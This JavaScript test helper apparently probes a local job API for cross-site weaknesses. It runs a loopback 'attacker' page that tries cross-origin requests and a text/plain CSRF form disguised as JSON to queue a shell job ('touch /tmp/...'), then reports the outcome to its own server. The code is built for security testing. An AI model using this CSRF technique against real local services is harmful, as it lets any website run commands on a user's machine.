// A web page on another loopback port, as any site the user opens could serve:
// on load it tries to read from and write to the api, then reports to its own
// server what it managed to learn (an attacker exfiltrating its loot).
import { createServer } from "node:http";

/**
 * What the page runs. `config` is { api, token, label }: the api's base URL and
 * the token the page uses (a guess for an attacker; the real one for the control).
 */
function attackScript(config) {
  const job = JSON.stringify({ command: `touch /tmp/convoy-${config.label}`, name: config.label });

  async function attempt(name, url, init) {
    try {
      const response = await fetch(url, init);
      let body;
      try {
        body = await response.text();
      } catch (error) {
        body = `unreadable: ${error}`;
      }
      return { name, outcome: "response", type: response.type, status: response.status, body };
    } catch (error) {
      return { name, outcome: "rejected", error: `${error.name}: ${error.message}` };
    }
  }

  // The classic CSRF: a form needs no fetch, no CORS, and a text/plain body can
  // be made to look like JSON. Posted into a hidden frame the page cannot read.
  function submitForm() {
    return new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.name = "sink";
      document.body.append(frame);
      const form = document.createElement("form");
      form.method = "POST";
      form.action = `${config.api}/jobs`;
      form.enctype = "text/plain";
      form.target = "sink";
      const input = document.createElement("input");
      input.name = `${job.slice(0, -1)},"pad":"`;
      input.value = '"}';
      form.append(input);
      document.body.append(form);
      const timer = setTimeout(() => resolve({ name: "form POST", outcome: "no load event" }), 5000);
      frame.addEventListener("load", () => {
        clearTimeout(timer);
        let body;
        try {
          body = frame.contentDocument?.body?.textContent ?? null;
        } catch (error) {
          body = `unreadable: ${error.name}`;
        }
        resolve({ name: "form POST", outcome: "loaded", body });
      });
      form.submit();
    });
  }

  return (async () => {
    const jobs = `${config.api}/jobs`;
    const results = [
      await attempt("simple GET, no token", jobs),
      await attempt("simple GET, token in the query", `${jobs}?token=${config.token}`),
      await attempt("GET with the token (preflighted)", jobs, {
        headers: { Authorization: `Bearer ${config.token}` },
      }),
      await attempt("simple POST, text/plain", jobs, {
        method: "POST",
        headers: { "Content-Type": "text/plain" },
        body: job,
      }),
      await attempt("preflighted POST, JSON and the token", jobs, {
        method: "POST",
        headers: { "Content-Type": "application/json", Authorization: `Bearer ${config.token}` },
        body: job,
      }),
      await attempt("no-cors POST", jobs, {
        method: "POST",
        mode: "no-cors",
        headers: { "Content-Type": "text/plain" },
        body: job,
      }),
      await submitForm(),
    ];
    await fetch(`/report/${config.label}`, { method: "POST", body: JSON.stringify(results) });
  })();
}

function pageHtml(config) {
  // JSON.stringify output is a valid JS literal; "<" is escaped so no value can end the script.
  const literal = JSON.stringify(config).replaceAll("<", "\\u003c");
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>nothing to see</title></head>
<body><script>(${attackScript.toString()})(${literal});</script></body></html>`;
}

/**
 * A server for attack pages. `serve(config)` puts a page at /<label> and
 * resolves with what that page reports back to /report/<label>.
 */
export async function startAttackerServer() {
  const pages = new Map();
  const server = createServer((request, response) => {
    const page = pages.get(request.url.replace(/^\/report/, ""));
    if (request.method === "GET" && page !== undefined && !request.url.startsWith("/report/")) {
      response.writeHead(200, { "Content-Type": "text/html; charset=utf-8", "Cache-Control": "no-store" });
      response.end(pageHtml(page.config));
      return;
    }
    if (request.method === "POST" && page !== undefined && request.url.startsWith("/report/")) {
      let body = "";
      request.on("data", (chunk) => {
        body += chunk;
      });
      request.on("end", () => {
        page.resolve(JSON.parse(body));
        response.writeHead(204).end();
      });
      return;
    }
    response.writeHead(404).end();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    origin: `http://127.0.0.1:${server.address().port}`,
    serve(config) {
      return new Promise((resolve) => pages.set(`/${config.label}`, { config, resolve }));
    },
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
